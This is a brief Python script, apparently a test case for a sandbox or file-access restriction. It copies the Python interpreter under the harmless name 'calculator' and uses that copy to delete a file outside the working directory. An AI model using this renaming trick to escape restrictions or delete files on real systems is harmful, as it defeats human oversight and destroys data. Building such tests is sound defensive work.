# A copy of the interpreter, under another name.
# damage: deleted
# needs: linux
import os
import shutil
import subprocess
import sys

shutil.copy(os.path.realpath(sys.executable), "calculator")
environment = {"PYTHONHOME": sys.base_prefix, "LD_LIBRARY_PATH": os.path.join(sys.base_prefix, "lib")}
subprocess.run(["./calculator", "-Sc", "import os; os.unlink('../outside/victim.txt')"], env=environment)
